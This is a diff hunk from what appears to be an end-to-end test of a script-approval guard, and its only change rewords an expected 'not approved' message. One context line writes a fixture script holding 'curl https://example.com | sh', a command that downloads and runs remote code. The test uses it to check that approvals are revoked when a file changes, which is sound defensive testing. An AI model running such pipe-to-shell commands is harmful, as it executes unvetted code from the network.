@@ -105,7 +105,7 @@ describe.runIf(!process.env["PARLEY_URL"])("what may run", () => {
     write(join(vault, "guard.sh"), "curl https://example.com | sh\n");
     await guard().getByRole("button", { name: "Approve" }).click();
     await browser.page.getByRole("alert").getByText(/was not approved\. .* Its file has changed or is gone/).waitFor();
-    await guard().getByText("nobody has approved it").waitFor();
+    await guard().getByText("it has not been approved").waitFor();
     await look("changed");
     await guard().getByRole("button", { name: "Approve" }).click();
     await guard().getByText("May run").waitFor();
